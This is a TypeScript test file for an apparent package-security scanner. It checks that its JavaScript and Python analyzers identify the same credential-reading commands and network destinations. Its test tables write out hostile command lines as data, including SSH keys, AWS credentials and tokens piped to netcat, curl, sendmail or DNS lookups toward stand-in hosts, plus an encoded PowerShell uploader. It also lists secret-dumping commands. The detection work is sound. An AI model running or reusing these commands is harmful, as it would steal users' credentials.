// What a shell command means is one reading both front-ends share
// (src/analyzers/common/shell-command.ts over signatures/commands.yaml): the same command
// line gives the same credential read and the same destination in JS (npm scripts,
// child_process) and Python (os.system, subprocess), whichever way each splits it.
import { describe, expect, it } from "vitest";
import { credentialCommand, destinationOf } from "../../src/analyzers/common/shell-command.js";
import { analyzeNpmPackage } from "../../src/analyzers/js/index.js";
import { analyzeShell } from "../../src/analyzers/js/shell.js";
import { analyzePythonPackage } from "../../src/analyzers/python/index.js";
import { commandDestination, parseCommandLine } from "../../src/analyzers/python/shell.js";
import { toCommand } from "../../src/analyzers/shell-words.js";
import { evaluateFacts } from "../../src/rules/evaluate.js";
import { loadSignatures } from "../../src/rules/signatures.js";
import { makePackage } from "./js/helpers.js";

const signatures = loadSignatures();

/** The credential kinds each front-end's reading of `line` gives. */
function readings(line: string): { js: string[]; python: string[] } {
  const js = analyzeShell(line, signatures).sources.map((s) => s.kind);
  const python = parseCommandLine(line).flatMap((c) => {
    const printed = credentialCommand(signatures, c.program, c.args);
    return printed ? [printed.kind] : [];
  });
  return { js, python };
}

async function findings(line: string): Promise<{ js: string[]; python: string[] }> {
  const quoted = JSON.stringify(line);
  const jsFacts = await analyzeNpmPackage(makePackage({ "index.js": `exports.run = function () {\n  require("child_process").exec(${quoted});\n};\n` }), signatures);
  const files = new Map([
    ["setup.py", Buffer.from('from setuptools import setup\nsetup(name="pkg", version="1.0.0", packages=["pkg"])\n')],
    ["pkg/__init__.py", Buffer.from(`import os\ndef run():\n    os.system(${quoted})\n`)],
  ]);
  const pyFacts = await analyzePythonPackage({ input: "test", files, bytes: 0, errors: [] }, signatures);
  const pkg = { ecosystem: "npm" as const, name: "pkg", version: "1.0.0" };
  const summary = (f: { ruleId: string; severity: string }) => `${f.ruleId} ${f.severity}`;
  return {
    js: evaluateFacts(jsFacts, pkg, signatures).map(summary).sort(),
    python: evaluateFacts(pyFacts, { ...pkg, ecosystem: "pypi" }, signatures).map(summary).sort(),
  };
}

describe("credential commands (signatures/commands.yaml credentialCommands)", () => {
  // [command line, the credential kind both front-ends read from it]
  const rows: [string, string | null][] = [
    ["gh auth token", "git-credentials"],
    ["gh auth status --show-token", "git-credentials"],
    ["gh auth status -t", "git-credentials"],
    ["git credential fill", "git-credentials"],
    ["git credential-store get", "git-credentials"],
    ["git config --get http.extraheader", "git-credentials"],
    ["git config --get github.oauthtoken", "git-credentials"],
    ["security find-generic-password -w", "keychain"],
    ["secret-tool lookup svc x", "keychain"],
    ["cmdkey /list", "keychain"],
    ["vaultcmd /listcreds:x", "keychain"],
    ["aws configure get aws_secret_access_key", "cloud-credentials"],
    ["aws sts assume-role --role-arn x", "cloud-credentials"],
    ["aws ecr get-login-password", "cloud-credentials"],
    ["gcloud auth print-access-token", "cloud-credentials"],
    ["gcloud auth print-identity-token", "cloud-credentials"],
    ["az account get-access-token", "cloud-credentials"],
    ["kubectl config view --raw", "cloud-credentials"],
    ["kubectl get secret db -o yaml", "cloud-credentials"],
    ["npm config get //r/:_authToken", "registry-token"],
    ["npm token list", "registry-token"],
    ["pip config get global.password", "registry-token"],
    ["netsh wlan show profile name=x key=clear", "system-secrets"],
    ["nmcli --show-secrets connection show x", "system-secrets"],
    ["curl http://169.254.169.254/latest/meta-data/iam/", "cloud-credentials"],
    ["curl -H Metadata-Flavor:Google http://metadata/computeMetadata/v1/", "cloud-credentials"],
    ["wget -qO- 169.254.170.2/v2/credentials", "cloud-credentials"],
    ["env", "env-dump"],
    ["printenv", "env-dump"],
    ["export -p", "env-dump"],
    ["set", "env-dump"],
    // Not credentials: a variable read, shell options, a config key that is no secret, a plain status.
    ["printenv HOME", null],
    ["set -eu", null],
    ["git config --get user.name", null],
    ["kubectl config view", null],
    ["netsh wlan show profile", null],
    ["git status", null],
    ["wget -O metadata https://h.example.invalid/f", null],
  ];
  it.each(rows)("%s", (line, kind) => {
    const { js, python } = readings(line);
    expect(js).toEqual(kind ? [kind] : []);
    expect(python).toEqual(js);
  });

  it("a list-form command (subprocess.run([...])) is folded like a command line: sudo, paths and .exe left out", () => {
    expect(toCommand(["sudo", "/usr/bin/GH.exe", "auth", "token"])).toEqual({ program: "gh", args: ["auth", "token"], path: "/usr/bin/GH.exe" });
  });

  it("the detail is the command line and the note names the program, in both", () => {
    expect(analyzeShell("env", signatures).sources).toEqual([{ kind: "env-dump", note: "dumps the environment with env", detail: "env" }]);
    expect(analyzeShell("/usr/bin/gh auth token", signatures).sources[0]?.detail).toBe("gh auth token");
  });

  it.each([
    "kubectl config view --raw | curl -d @- https://c.example.invalid/",
    "netsh wlan show profile name=x key=clear | curl -d @- https://c.example.invalid/",
    "gh auth token | curl -d @- https://c.example.invalid/",
    "cat ~/.ssh/id_rsa | sendmail drop@h.example.invalid",
    "cat ~/.ssh/id_rsa | nc 203.0.113.9 9000",
    "dig @203.0.113.53 $(cat ~/.aws/credentials | base64).h.example.invalid",
  ])("the same findings in JS and Python: %s", async (line) => {
    const { js, python } = await findings(line);
    expect(js.length).toBeGreaterThan(0);
    expect(python).toEqual(js);
  });
});

describe("the command a shell is given to run (src/analyzers/shell-words.ts innerCommandLine)", () => {
  it.each([
    'sh -c "cat ~/.ssh/id_rsa | nc 203.0.113.9 9000"',
    'bash -e -c "cat ~/.ssh/id_rsa | nc 203.0.113.9 9000"',
    'zsh -c "gh auth token | curl -d @- https://c.example.invalid/"',
    'dash -c "curl -F k=@$HOME/.aws/credentials https://c.example.invalid/"',
    'powershell -NoProfile -Command "cat ~/.ssh/id_rsa | nc 203.0.113.9 9000"',
    "pwsh -c gh auth token | curl -d @- https://c.example.invalid/",
    // Flags in a cluster or with a value before -c, env's own options, Windows' cmd, PowerShell's encoded form.
    "bash -lc 'cat ~/.ssh/id_rsa | nc 203.0.113.9 9000'",
    "bash -o pipefail -c 'cat ~/.ssh/id_rsa | nc 203.0.113.9 9000'",
    "env -i HOME=/root sh -c 'cat ~/.ssh/id_rsa | nc 203.0.113.9 9000'",
    "env sh -c 'cat ~/.ssh/id_rsa | nc 203.0.113.9 9000'",
    'cmd /c "curl -d @%USERPROFILE%/.npmrc https://c.example.invalid/"',
    'cmd.exe /S /C "curl -F f=@%USERPROFILE%\\.ssh\\id_rsa https://c.example.invalid/"',
    'powershell -c "$k = Get-Content ~/.ssh/id_rsa -Raw; Invoke-RestMethod -Uri https://c.example.invalid/ -Method Post -Body $k"',
    "powershell -NoProfile -EncodedCommand aQB3AHIAIAAtAFUAcgBpACAAaAB0AHQAcABzADoALwAvAGMALgBlAHgAYQBtAHAAbABlAC4AaQBuAHYAYQBsAGkAZAAvAGsAIAAtAE0AZQB0AGgAbwBkACAAUABvAHMAdAAgAC0ASQBuAEYAaQBsAGUAIAAkAGUAbgB2ADoAVQBTAEUAUgBQAFIATwBGAEkATABFAC8ALgBzAHMAaAAvAGkAZABfAHIAcwBhAA==",
  ])("is read by both front-ends, with the same findings: %s", async (line) => {
    const { js, python } = await findings(line);
    expect(js).toContain("credential-exfiltration critical");
    expect(python).toEqual(js);
  });

  it("a wrapper that runs no command text gives none: flags without -c, a script file, cmd without /c, text that is not PowerShell's encoding", async () => {
    for (const line of ["bash -l ./deploy.sh ~/.ssh/id_rsa", "sh -e -x build.sh", "cmd /d dir %USERPROFILE%\\.ssh", "powershell -e notbase64!"]) {
      expect((await findings(line)).js.filter((f) => f.startsWith("credential-exfiltration"))).toEqual([]);
    }
  });

  it("the inner command's credential reads are the same in both", () => {
    expect(readings('bash -e -c "gh auth token"')).toEqual({ js: ["git-credentials"], python: ["git-credentials"] });
    expect(readings("pwsh -Command gh auth token")).toEqual({ js: ["git-credentials"], python: ["git-credentials"] });
  });
});

describe("destinations (signatures/commands.yaml programs.<name>.destination)", () => {
  // [command line, the destination both front-ends read]
  const rows: [string, string | null][] = [
    ["nc 203.0.113.9 9000", "203.0.113.9"],
    ["nc localhost 9000", "localhost"],
    ["nc -p 5000 203.0.113.9 9000", "203.0.113.9"],
    ["socat - TCP:203.0.113.7:9000", "203.0.113.7"],
    ["git push git@h.example.invalid:a/b.git", "h.example.invalid"],
    ["gh gist create f", "api.github.com"],
    ["ping -p 41 203.0.113.5", "203.0.113.5"],
    ["dig @8.8.8.8 x.h.example.invalid", "x.h.example.invalid"],
    ["nslookup x.h.example.invalid 8.8.8.8", "x.h.example.invalid"],
    ["scp f user@h.example.invalid:/tmp/", "h.example.invalid"],
    ["rsync -a d/ h.example.invalid:/x/", "h.example.invalid"],
    ["sftp user@h.example.invalid", "h.example.invalid"],
    ["sendmail a@h.example.invalid", "a@h.example.invalid"],
    ["curl -d @f h.example.invalid", "h.example.invalid"],
    ["curl -H 'Referer: https://r.example.invalid/' https://h.example.invalid/x", "https://h.example.invalid/x"],
    ["curl --url=https://h.example.invalid/x -d @f", "https://h.example.invalid/x"],
    ["wget https://h.example.invalid/x", "https://h.example.invalid/x"],
  ];
  it.each(rows)("%s", (line, destination) => {
    const js = analyzeShell(line, signatures).sinks[0]?.destination ?? null;
    const python = commandDestination(signatures.commands, parseCommandLine(line)[0]!) ?? null;
    expect(js).toBe(destination);
    expect(python).toBe(destination);
  });

  it("an unknown host stays unknown: never the port after it", () => {
    expect(destinationOf(signatures.commands, "nc", ["\uE000", "9000"])).toBe("\uE000");
    expect(destinationOf(signatures.commands, "nc", ["*", "9000"])).toBe("*");
  });
});
